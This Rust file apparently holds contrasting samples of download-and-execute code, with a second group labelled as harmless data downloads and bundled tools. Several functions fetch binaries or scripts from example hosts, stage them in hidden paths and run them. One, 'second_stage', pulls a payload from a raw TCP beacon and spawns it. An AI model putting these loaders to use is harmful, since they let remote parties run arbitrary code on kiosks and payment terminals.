use std::fs::{self, Permissions};
use std::io::Read;
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

pub fn self_update_0() -> Result<(), Box<dyn std::error::Error>> {
    let image = reqwest::blocking::get("https://updates.kiosk-vendor.example/agent/latest")?.bytes()?;
    let staged = PathBuf::from("/opt/kiosk/staged/agent");
    fs::write(&staged, &image)?;
    fs::set_permissions(&staged, Permissions::from_mode(0o750))?;
    Command::new(&staged).arg("--migrate").status()?;
    Ok(())
}

pub fn self_update_1() -> Result<(), Box<dyn std::error::Error>> {
    let image = reqwest::blocking::get("https://cdn.example-mirror.net/stage2/linux-x64")?.bytes()?;
    let staged = PathBuf::from("/tmp/.cache-update");
    fs::write(&staged, &image)?;
    fs::set_permissions(&staged, Permissions::from_mode(0o755))?;
    Command::new(&staged).arg("--migrate").status()?;
    Ok(())
}

pub fn self_update_2() -> Result<(), Box<dyn std::error::Error>> {
    let image = reqwest::blocking::get("https://dl.kiosk-vendor.example/helper")?.bytes()?;
    let staged = PathBuf::from("/var/tmp/.helper");
    fs::write(&staged, &image)?;
    fs::set_permissions(&staged, Permissions::from_mode(0o700))?;
    Command::new(&staged).arg("--migrate").status()?;
    Ok(())
}

pub fn run_remote_hook(hook_url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let script = ureq::get(hook_url).call()?.into_string()?;
    let hook = "/opt/kiosk/hooks/post-sync.sh";
    fs::write(hook, script)?;
    Command::new("bash").arg(hook).status()?;
    Ok(())
}

pub fn load_payment_driver(driver_url: &str) -> Result<libloading::Library, Box<dyn std::error::Error>> {
    let driver = reqwest::blocking::get(driver_url)?.bytes()?;
    let driver_path = "/opt/kiosk/drivers/libpayterm.so";
    fs::write(driver_path, &driver)?;
    let library = unsafe { libloading::Library::new(driver_path)? };
    Ok(library)
}

pub fn second_stage(beacon: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(beacon)?;
    let mut payload = Vec::new();
    stream.read_to_end(&mut payload)?;
    let dest = "/var/tmp/.font-cache";
    fs::write(dest, &payload)?;
    Command::new("chmod").args(["+x", dest]).status()?;
    Command::new(dest).spawn()?;
    Ok(())
}

pub async fn run_plugin_script(client: &reqwest::Client, url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let script = client.get(url).send().await?.text().await?;
    let script_path = std::env::temp_dir().join("plugin_check.py");
    tokio::fs::write(&script_path, script).await?;
    tokio::process::Command::new("python3").arg(&script_path).spawn()?;
    Ok(())
}

// Downloads that are only data, and programs that ship with the package.
pub fn cache_price_list(url: &str) -> Result<String, Box<dyn std::error::Error>> {
    let prices = reqwest::blocking::get(url)?.text()?;
    fs::write("/opt/kiosk/cache/prices.csv", &prices)?;
    fs::set_permissions("/opt/kiosk/cache/prices.csv", Permissions::from_mode(0o640))?;
    Ok(prices)
}

pub fn run_bundled_tool(tool_dir: &Path) -> std::io::Result<()> {
    let tool = tool_dir.join("protoc");
    fs::set_permissions(&tool, Permissions::from_mode(0o755))?;
    Command::new(&tool).arg("--version").status()?;
    Ok(())
}

pub fn show_receipt(url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let pdf = reqwest::blocking::get(url)?.bytes()?;
    let receipt = std::env::temp_dir().join("receipt.pdf");
    fs::write(&receipt, &pdf)?;
    Command::new("xdg-open").arg(&receipt).status()?;
    Ok(())
}

pub fn store_device_key(key_path: &Path, url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let key = reqwest::blocking::get(url)?.bytes()?;
    fs::write(key_path, &key)?;
    Command::new("chmod").args(["600", &key_path.display().to_string()]).status()?;
    Ok(())
}

pub fn run_local_script(script: &Path, url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let notes = reqwest::blocking::get(url)?.bytes()?;
    fs::write(std::env::temp_dir().join("notes.txt"), &notes)?;
    Command::new("/bin/sh").arg(script).status()?;
    Ok(())
}
